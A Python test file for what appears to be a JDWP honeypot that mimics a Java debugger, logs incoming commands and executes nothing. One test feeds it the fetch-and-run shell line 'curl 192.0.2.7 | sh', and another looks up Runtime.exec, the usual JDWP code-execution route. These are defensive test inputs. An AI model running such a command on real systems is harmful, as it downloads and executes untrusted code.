"""A virtual machine tells of itself, hits one breakpoint, keeps the command, and runs nothing."""

import struct

import pytest

from rawspoof.core.conversation.base import Request, Then
from rawspoof.core.conversation.jdwp.machine import CLASSES, METHODS, THREADS
from rawspoof.core.conversation.jdwp.speaker import EVENT_S, HANDSHAKE, Jdwp
from rawspoof.core.conversation.visit import Visit
from tests.conversation.talks import NOON, converse, living, never_raises, said, talk

JAVA_8 = living("jdwp", java="1.8.0_252")
JAVA_11 = living("jdwp", java="11.0.11")


def command(kind, number, body=b""):
    return struct.pack(">IIBBB", 11 + len(body), 9, 0, kind, number) + body


def text(data):
    return struct.pack(">I", len(data)) + data


def replies(*commands, who=JAVA_8):
    """Error code and data of each reply."""
    heard, found = said(converse(who, [HANDSHAKE, *commands])[1:]), []
    while heard:
        size, number, flags, code = struct.unpack_from(">IIBH", heard)
        assert (number, flags) == (9, 0x80)
        found.append((code, heard[11:size]))
        heard = heard[size:]
    return found


def test_the_handshake_is_said_once():
    greeting, reply = converse(JAVA_8, [HANDSHAKE])
    assert (greeting.data, reply.data, reply.then) == (HANDSHAKE, b"", Then.LISTEN)
    waiting = Jdwp(Visit(JAVA_8._replace(greet=None)))
    assert waiting.answer(HANDSHAKE, NOON).data == HANDSHAKE


@pytest.mark.parametrize("other", [b"GET / HTTP/1.0\r\n\r\n", b"JDWP-handshake", bytes(20)])
def test_who_does_not_shake_hands_is_left(other):
    assert converse(JAVA_8, [other])[-1][:2] == (b"", Then.CLOSE)


def test_versions():
    ((code, data),) = replies(command(1, 1))
    assert code == 0
    assert b"JVM version 1.8.0_252 (OpenJDK 64-Bit Server VM, mixed mode)" in data
    assert data.endswith(struct.pack(">ii", 1, 8) + text(b"1.8.0_252") + text(b"OpenJDK 64-Bit Server VM"))
    assert struct.pack(">ii", 11, 0) + text(b"11.0.11") in replies(command(1, 1), who=JAVA_11)[0][1]


def test_sizes_threads_and_groups():
    sizes, threads, groups = (data for _, data in replies(command(1, 7), command(1, 4), command(1, 5)))
    assert sizes == struct.pack(">5i", 8, 8, 8, 8, 8)
    assert len(threads) == 4 + 8 * len(THREADS)
    assert len(groups) == 12
    named = replies(command(11, 1, threads[4:12]), command(11, 1, bytes(8)), command(11, 4, threads[4:12]))
    assert named == [(0, text(b"main")), (10, b""), (0, struct.pack(">ii", 1, 0))]


@pytest.mark.parametrize("generic", [False, True])
def test_classes_and_methods(generic):
    ((_, every),) = replies(command(1, 20 if generic else 3))
    assert every[:4] == struct.pack(">i", len(CLASSES))
    ((_, one),) = replies(command(1, 2, text(b"Ljava/lang/Runtime;")))
    count, tag, number, status = struct.unpack(">iBQi", one)
    assert (count, tag, status) == (1, 1, 7)
    ((_, methods),) = replies(command(2, 15 if generic else 5, struct.pack(">Q", number)))
    assert methods[:4] == struct.pack(">i", 1 + len(METHODS[b"Ljava/lang/Runtime;"]))
    assert text(b"exec") + text(b"(Ljava/lang/String;)Ljava/lang/Process;") in methods
    assert replies(command(1, 2, text(b"Lno/such;"))) == [(0, bytes(4))]
    assert replies(command(2, 5, bytes(8)), command(2, 1, bytes(8))) == [(21, b""), (21, b"")]
    assert replies(command(2, 13, struct.pack(">Q", number))) == [(0, text(b"Ljava/lang/Runtime;") + bytes(4))]


def test_the_command_is_kept_and_not_run():
    string = command(1, 11, text(b"curl 192.0.2.7 | sh"))
    spoken = converse(JAVA_8, [HANDSHAKE, string])
    assert Request(string) in spoken[-1].notes
    kept, value, run = replies(string, command(10, 1, struct.pack(">Q", 0x200)), command(9, 6, bytes(40)))
    assert kept == (0, struct.pack(">Q", 0x200))
    assert value == (0, text(b"curl 192.0.2.7 | sh"))
    assert run == (13, b"")
    assert replies(command(10, 1, bytes(8))) == [(506, b"")]


def test_one_breakpoint_is_hit():
    place = b"\1" + struct.pack(">QQQ", 0x40A, 0xA01, 0)
    ask = command(15, 1, b"\2\1" + struct.pack(">i", 1) + b"\7" + place)
    spoken = talk(JAVA_8)
    spoken.opened(NOON)
    reply = spoken.heard(HANDSHAKE + ask, NOON)
    assert (reply.data[-4:], reply.then) == (struct.pack(">i", 2), Then.MORE)
    event = spoken.idled(NOON)
    assert (event.then, event.after_s) == (Then.LISTEN, EVENT_S)
    assert event.data[8:11] == b"\0\x40\x64"
    assert event.data.endswith(struct.pack(">BiBiQ", 1, 1, 2, 2, 1) + place)
    assert spoken.heard(ask, NOON).then is Then.LISTEN
    assert spoken.heard(command(3, 3, bytes(40)), NOON).data[9:11] == b"\0\x71"


def test_the_end():
    for kind in (6, 10):
        reply = converse(JAVA_8, [HANDSHAKE, command(1, kind)])[-1]
        assert (len(reply.data), reply.then) == (11, Then.CLOSE)
    for size in (b"\0\0\0\0", b"\0\0\0\x0a", b"\xff\xff\xff\xff"):
        assert converse(JAVA_8, [HANDSHAKE, size])[-1][:2] == (b"", Then.CLOSE)


def test_what_is_not_understood():
    assert replies(command(77, 1)) == [(99, b"")]
    reply = struct.pack(">IIBH", 11, 1, 0x80, 0)
    assert converse(JAVA_8, [HANDSHAKE, reply])[-1][:2] == (b"", Then.LISTEN)


def test_nothing_breaks_it():
    never_raises(JAVA_8, HANDSHAKE, command(1, 1), command(1, 11), command(15, 1, b"\2\1"), command(2, 5), b"\0\0\0")
